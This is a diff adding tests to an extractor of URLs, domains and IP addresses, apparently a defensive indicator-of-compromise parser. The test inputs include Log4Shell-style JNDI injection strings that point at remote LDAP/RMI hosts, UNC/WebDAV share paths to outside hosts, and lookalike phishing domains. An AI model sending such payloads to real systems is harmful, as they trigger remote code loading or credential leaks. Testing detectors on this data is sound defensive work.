@@ -202,3 +202,19 @@ def test_word_processor_hyphens_in_names():
     assert found("réglez ici : https://colissimo\u2011suivi.fr-livraison.xyz/p/8812") == {
         "url": ["https://colissimo-suivi.fr-livraison.xyz/p/8812"]}
     assert found("puis secure\u2010ameli\uff0ecom") == {"domain": ["secure-ameli.com"]}
+
+
+def test_jndi_callback_urls():
+    text = ("GET /viewer?study=${jndi:ldap://45.83.193.150:1389/Exploit} HTTP/1.1\n"
+            "User-Agent: ${jndi:rmi://79.124.62.86:1099/o}")
+    assert found(text) == {"url": ["ldap://45.83.193.150:1389/Exploit",
+                                   "rmi://79.124.62.86:1099/o"]}
+
+
+def test_the_host_of_a_unc_path():
+    text = ("mounted \\\\files-share-corp.eastus.cloudapp.azure.com@SSL\\DavWWWRoot\\x.lnk and "
+            "\\\\185.81.68[.]74\\share\\sound.wav")
+    assert found(text) == {"domain": ["files-share-corp.eastus.cloudapp.azure.com"],
+                           "ipv4": ["185.81.68.74"]}
+    # a name inside a Windows path is not the host of a share
+    assert found("C:\\Users\\Public\\evil-updates.com\\run.exe") == {}
